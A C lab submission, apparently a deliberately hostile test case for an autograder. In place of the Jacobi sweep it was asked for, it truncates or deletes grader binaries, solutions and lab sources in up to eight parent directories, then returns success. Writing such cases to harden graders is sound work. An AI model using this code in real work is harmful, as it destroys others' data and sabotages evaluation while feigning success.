/* hostile: deletes and truncates what it can reach
 * points: 5
 * rest: sweep */
#define _DEFAULT_SOURCE
#include "lab.h"

#include <math.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

/* upwards from the working directory, where the repository would be */
static void destroy(void)
{
    static const char *const targets[] = { "worker", "mbsim.h", "labs/02_pgs/pgs.c", "labs/02_pgs/lab.h", "solutions/02_pgs.c",
                                           "build/grade/grader", "grader" };
    char path[300] = "";

    for (int up = 0; up < 8; up++) {
        for (size_t k = 0; k < sizeof targets / sizeof targets[0]; k++) {
            char target[400];
            snprintf(target, sizeof target, "%s%s", path, targets[k]);
            if (truncate(target, 0) != 0 && unlink(target) != 0) continue;
        }
        strcat(path, "../");
    }
}

mb_status lab_jacobi_sweep(int n, const double *A, const double *b, double omega, const double *z, double *z_next)
{
    (void)n, (void)A, (void)b, (void)omega, (void)z, (void)z_next;
    destroy();
    return MB_OK;
}
